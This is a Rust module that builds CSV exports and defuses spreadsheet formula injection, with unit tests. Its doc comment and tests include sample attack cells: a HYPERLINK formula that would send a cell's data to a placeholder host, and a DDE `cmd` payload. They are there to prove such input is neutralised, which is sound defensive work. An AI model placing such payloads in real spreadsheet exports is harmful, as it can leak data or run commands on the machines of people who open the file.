//! CSV exports, written once for the gateway's downloads and `duban plan export`: the `csv` crate quotes what
//! needs it, every line ends with LF, and no cell can run as a spreadsheet formula.

use std::borrow::Cow;

/// Why a CSV export could not be written.
#[derive(Debug, thiserror::Error)]
pub enum CsvExportError {
    /// The `csv` crate refused a record.
    #[error("csv export: {0}")]
    Record(#[from] csv::Error),
    /// The buffered text could not be flushed.
    #[error("csv export: {0}")]
    Flush(#[source] std::io::Error),
    /// The text is not UTF-8 (cannot happen for `&str` fields; kept typed rather than unwrapped).
    #[error("csv export is not UTF-8: {0}")]
    Utf8(#[from] std::string::FromUtf8Error),
}

/// A CSV table of `N` columns, built in memory: a header row, then records.
///
/// The column count is part of the type, so a record can never be longer or shorter than the header.
/// Fields are quoted only when they hold a comma, a quote or a line break (RFC 4180 quoting); lines end
/// with LF, for the dashboard's downloads and the command line alike. Every field goes through
/// [`neutralised`] first, so text a department wrote cannot become a formula in Excel or WPS.
pub struct CsvExport<const N: usize> {
    writer: csv::Writer<Vec<u8>>,
}

impl<const N: usize> std::fmt::Debug for CsvExport<N> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("CsvExport").field("columns", &N).finish_non_exhaustive()
    }
}

impl<const N: usize> CsvExport<N> {
    /// A table whose first row names the columns.
    pub fn new(header: [&str; N]) -> Result<Self, CsvExportError> {
        let writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::Any(b'\n'))
            .from_writer(Vec::new());
        let mut table = Self { writer };
        table.record(header)?;
        Ok(table)
    }

    /// Appends one record.
    pub fn record<F: AsRef<str>>(&mut self, fields: [F; N]) -> Result<(), CsvExportError> {
        self.writer
            .write_record(fields.iter().map(|f| neutralised(f.as_ref()).into_owned()))?;
        Ok(())
    }

    /// The whole table as text.
    pub fn finish(self) -> Result<String, CsvExportError> {
        let bytes = self
            .writer
            .into_inner()
            .map_err(|e| CsvExportError::Flush(e.into_error()))?;
        Ok(String::from_utf8(bytes)?)
    }
}

/// A field as a spreadsheet program will show it rather than run it: one that starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return (what Excel, WPS and LibreOffice read as the start of a formula, as in
/// `=HYPERLINK("http://x/?"&A2,"详情")`) gets a leading apostrophe, which makes the cell text. A plain
/// number such as `-12.5` is left as it is: it can only ever be a number, and the apostrophe would turn
/// a negative amount into text.
pub fn neutralised(field: &str) -> Cow<'_, str> {
    let formula_start = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula_start && !is_plain_number(field) {
        Cow::Owned(format!("'{field}"))
    } else {
        Cow::Borrowed(field)
    }
}

/// An optional sign, digits, and at most one decimal point among them: nothing a spreadsheet evaluates.
fn is_plain_number(field: &str) -> bool {
    let digits = field.strip_prefix(['+', '-']).unwrap_or(field);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let fraction = parts.next();
    let all_digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    (!whole.is_empty() || fraction.is_some_and(|f| !f.is_empty()))
        && all_digits(whole)
        && fraction.is_none_or(all_digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one_field(value: &str) -> String {
        let mut table = CsvExport::new(["value", "next"]).unwrap();
        table.record([value, "x"]).unwrap();
        let text = table.finish().unwrap();
        let row = text.lines().nth(1).unwrap();
        row.strip_suffix(",x").unwrap().to_owned()
    }

    #[test]
    fn csv_quotes_only_what_needs_it() {
        assert_eq!(one_field("plain"), "plain");
        assert_eq!(one_field("区税务局"), "区税务局");
        assert_eq!(one_field("a,b"), "\"a,b\"");
        assert_eq!(one_field("say \"hi\""), "\"say \"\"hi\"\"\"");
    }

    #[test]
    fn cells_that_would_start_a_formula_are_neutralised() {
        assert_eq!(
            one_field("=HYPERLINK(\"http://x/?\"&A2,\"详情\")"),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"详情\"\")\""
        );
        assert_eq!(one_field("+1+cmd|' /C calc'!A0"), "'+1+cmd|' /C calc'!A0");
        assert_eq!(one_field("-2+3"), "'-2+3");
        assert_eq!(one_field("@SUM(A1:A9)"), "'@SUM(A1:A9)");
        assert_eq!(one_field("\t=1+1"), "'\t=1+1");
        assert_eq!(one_field("\r=1+1"), "\"'\r=1+1\"");
        // The header is neutralised too, and text that merely contains the characters is not touched.
        let mut table = CsvExport::new(["=a", "b"]).unwrap();
        table.record(["a=b", "进度 -5%"]).unwrap();
        assert_eq!(table.finish().unwrap(), "'=a,b\na=b,进度 -5%\n");
    }

    #[test]
    fn plain_numbers_stay_numbers() {
        for number in ["-12.5", "+3", "-0.25", "42", "-.5"] {
            assert_eq!(one_field(number), number);
        }
        for not_a_number in ["-", "-.", "-1.2.3", "-1e5", "-1,5"] {
            assert!(
                one_field(not_a_number).trim_matches('"').starts_with('\''),
                "{not_a_number}"
            );
        }
    }

    #[test]
    fn line_breaks_are_quoted_and_lines_end_with_lf() {
        let mut table = CsvExport::new(["a", "b"]).unwrap();
        table.record(["two\nlines", "cr\r"]).unwrap();
        assert_eq!(table.finish().unwrap(), "a,b\n\"two\nlines\",\"cr\r\"\n");
    }
}
